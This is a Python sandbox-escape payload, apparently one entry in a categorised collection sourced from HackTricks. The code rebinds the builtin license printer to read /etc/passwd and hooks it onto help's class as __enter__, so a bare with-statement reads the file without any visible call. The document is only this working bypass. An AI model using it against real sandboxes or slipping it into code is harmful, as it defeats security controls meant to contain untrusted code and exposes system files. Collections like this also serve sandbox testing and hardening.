# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (with (a as b) using help.__class__.__enter__ = license)
# Family: builtins-side-door
# What: help's class gets __enter__ = license so a with-statement reads the file without a call
__builtins__.__dict__["license"]._Printer__filenames = ["/etc/passwd"]
a = __builtins__.help
a.__class__.__enter__ = __builtins__.__dict__["license"]
a.__class__.__exit__ = lambda self, *args: None
with (a as b):
    pass
